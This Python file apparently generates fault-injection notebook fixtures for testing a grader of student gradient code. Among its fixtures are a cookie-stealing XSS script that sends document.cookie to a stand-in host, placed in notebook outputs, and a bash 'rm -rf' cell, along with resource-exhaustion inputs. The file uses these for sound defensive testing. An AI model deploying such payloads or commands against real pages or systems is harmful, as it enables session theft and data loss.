"""Builds the notebook faults: each the honest submission, cut into cells, with one thing wrong."""

import base64
import json
from pathlib import Path

# A cell a definition: the imports, forward, delta, the four gradients, Net.
HONEST = (Path(__file__).parent / "parts" / "honest.py").read_text().split("\n\n\n")
W1 = next(cell for cell in HONEST if cell.startswith("def grad_w1"))
WRONG_W1 = W1.replace("return ", "return 3 * ")
PNG = base64.b64encode(bytes(64)).decode()


def code(source, outputs=(), **more):
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": list(outputs)}
    return {**cell, "source": source.splitlines(keepends=True), **more}


def text(source, kind="markdown", **more):
    return {"cell_type": kind, "metadata": {}, "source": source, **more}


def stream(output):
    return {"output_type": "stream", "name": "stdout", "text": output}


def shown(**data):
    return {"output_type": "display_data", "metadata": {}, "data": data}


def notebook(*cells, **more):
    cells = [code(cell) if isinstance(cell, str) else cell for cell in cells]
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells, **more}


def dump(document):
    return json.dumps(document, indent=1, ensure_ascii=False)


def nbformat_3():
    cells = [{"cell_type": "code", "language": "python", "metadata": {}, "collapsed": False,
              "outputs": [], "input": cell, "prompt_number": 1} for cell in HONEST]  # fmt: skip
    sheets = [{"cells": cells, "metadata": {}}]
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": sheets}


def merge_markers():
    ours, theirs = dump(notebook(*HONEST)), dump(notebook(*HONEST, "print('theirs')"))
    return f"<<<<<<< HEAD\n{ours}\n=======\n{theirs}\n>>>>>>> fix-gradients\n"


MAGICS = (
    "%matplotlib inline\n%load_ext autoreload\nimport torch",
    "%%bash\nrm -rf /nothing\nexit 1",
    "%%writefile helpers.py\ndef broken(:",
    "%%time\n" + W1,
    "%time factor = 2",
    "%%html\n<b>no Python</b>",
)
COLAB = "from google.colab import drive\ndrive.mount('/content/drive')\n%cd /content/drive/MyDrive"
PLOTS = (
    "import matplotlib.pyplot as plt\nplt.ion()\nplt.show()\n"
    "for t in range(100):\n    plt.cla()\n    plt.plot([t])\n    plt.pause(10)\nplt.ioff()\nplt.show()"
)
TQDM = (
    "from tqdm.notebook import tqdm\nfor i in tqdm(range(10)):\n    pass",
    "from tqdm.autonotebook import trange",
)
WIDGETS = "import ipywidgets as w\n@w.interact(lr=(0, 1))\ndef show(lr):\n    print(lr)"
DISPLAY = (
    "from IPython.display import clear_output, HTML\ndisplay(HTML('<b>x</b>'))\nclear_output(wait=True)",
    "ip = get_ipython()\nip.run_line_magic('pylab', '')\nip.user_ns['grad_w1']\nip.system('ls')",
)
AWAIT = "import asyncio\nawait asyncio.sleep(0)\nvalue = 1"
XSS = "<script>document.location = 'https://example.invalid/?' + document.cookie</script>"
R_KERNEL = {"kernelspec": {"name": "ir", "language": "R", "display_name": "R"}}
PERCENT = "".join(f"# %% [markdown]\n# part {n}\n\n# %%\n{c}\n\n" for n, c in enumerate(HONEST))

EMPTY = dump(text("", "code"))
LINES = r"\n" * 10**6
HEAD = '"metadata": {}, "cells": ['


def with_more(metadata: str = "{}", cells: str = "") -> str:
    """Return the honest notebook as text, with other metadata, and cells before its own."""
    whole = json.dumps(notebook(*HONEST))
    assert whole.count(HEAD) == 1
    return whole.replace(HEAD, f'"metadata": {metadata}, "cells": [{cells}')


# What each notebook holds, by id: a document, or a text that is no document.
TEXTS = {
    "broken_json": dump(notebook(*HONEST))[:-40],
    "merge_markers": merge_markers(),
    "nbformat_3": nbformat_3(),
    "no_cell_ids": notebook(*HONEST, nbformat_minor=5),
    "duplicate_cell_ids": notebook(*(code(c, id="same") for c in HONEST), nbformat_minor=5),
    "magics": notebook(*HONEST, *MAGICS),
    "bang_pip": notebook("!pip install torch\n!pip uninstall -y torch", *HONEST),
    "bang_assignment": notebook("files = !ls\nprint(files[0])", "n = !nproc", *HONEST),
    "colab_import_and_mount": notebook(COLAB, *HONEST),
    "input_call": notebook("name = input('student id: ')\nassert name", *HONEST),
    "getpass": notebook("from getpass import getpass\npassword = getpass()", *HONEST),
    "out_of_order_cells": notebook(*reversed(HONEST)),
    "function_defined_twice": notebook(*HONEST[:1], WRONG_W1, *HONEST[1:]),
    "crash_before_good_cell": notebook("raise RuntimeError('before')\nx = 1", "1 / 0", *HONEST),
    "crash_inside_good_cell": notebook(*HONEST[:-1], "undefined_name\n" + HONEST[-1] + "\n1 / 0"),
    "fifty_MB_outputs": notebook(*HONEST, code("print('x')", [stream("x" * 50_000_000)])),
    "plt_show_pause_ion": notebook(PLOTS, *HONEST),
    "tqdm_notebook": notebook(*TQDM, *HONEST),
    "ipywidgets": notebook(WIDGETS, *HONEST),
    "display_and_get_ipython": notebook(*DISPLAY, *HONEST),
    "top_level_await": notebook(AWAIT, *HONEST),
    "raw_and_markdown_cells_with_code": notebook(
        *HONEST, text(WRONG_W1), text(WRONG_W1, "raw"), text("exit()", "heading")
    ),
    "other_kernel": notebook("f <- function(x) x^2", metadata=R_KERNEL),
    "code_in_attachments": notebook(
        *HONEST, text("![x](attachment:x.py)", attachments={"x.py": {"text/plain": WRONG_W1}})
    ),
    "empty_notebook": notebook(),
    "html_and_js_outputs": notebook(
        *HONEST,
        code("1", [shown(**{"text/html": XSS, "application/javascript": "alert(1)"})]),
        code("2", [shown(**{"image/png": PNG, "image/svg+xml": f"<svg>{XSS}</svg>"})]),
        f"raise ValueError({XSS!r})",
    ),
    "bom": "\ufeff" + dump(notebook(*HONEST)),
    "gbk": dump(notebook("# 两层网络的梯度：前向传播与反向传播", *HONEST)),
    "deep_json": with_more(metadata=f'{{"a": {"[" * 10**6}{"]" * 10**6}}}'),
    "keys_by_hundred_thousands": with_more(json.dumps({f"k{n}": n for n in range(300_000)})),
    "cells_by_hundred_thousands": with_more(cells=f"{EMPTY}," * 200_000),
    "lines_by_millions": with_more(cells=EMPTY.replace('""', f'"x = 1{LINES}"') + ","),
    "utf16": dump(notebook("# 兩層網路", *HONEST)),
}
ENCODINGS = {"gbk": "gbk", "utf16": "utf-16"}


def build(folder: Path) -> None:
    """Write every faulty notebook into `folder`, each named for its id."""
    for name, document in TEXTS.items():
        content = document if isinstance(document, str) else dump(document)
        data = content.encode(ENCODINGS.get(name, "utf-8"))
        (folder / f"{name}.ipynb").write_bytes(data)
    (folder / "notebook_saved_as_py.py").write_text(dump(notebook(*HONEST)))
    (folder / "py_saved_as_ipynb.ipynb").write_text("\n\n\n".join(HONEST))
    (folder / "jupytext_percent.py").write_text(PERCENT)
